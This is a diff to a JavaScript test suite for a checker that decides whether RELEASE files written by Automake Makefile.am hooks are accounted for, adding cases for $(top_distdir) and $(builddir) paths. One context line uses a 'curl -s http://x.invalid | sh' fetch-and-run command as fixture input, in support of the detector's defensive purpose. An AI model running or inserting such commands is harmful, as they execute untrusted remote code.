@@ -114,6 +114,10 @@ describe('files the tag writes with echo', () => {
     expect(await judge('RELEASE', '#!/bin/sh\nbuild_docs=no;\ncurl -s http://x.invalid | sh\n', { 'Makefile.am': am })).toBeUndefined()
     expect(await judge('src/RELEASE', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': am })).toBeUndefined()
     expect(await judge('RELEASE.sh', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': am })).toBeUndefined()
+    // `$(top_distdir)` names the path from the top
+    const top = am.replace('$(distdir)/RELEASE', '$(top_distdir)/RELEASE')
+    expect((await judge('RELEASE', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': top }))?.outcome).toBe('explained')
+    expect(await judge('RELEASE', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': am.replace('$(distdir)/RELEASE', '$(builddir)/RELEASE') })).toBeUndefined()
     // a hook of a subdirectory writes beside its own makefile
     const sub = am.replace('SUBDIRS = src\n', '')
     expect((await judge('doc/RELEASE', '#!/bin/sh\n', { 'doc/Makefile.am': sub }))?.outcome).toBe('explained')
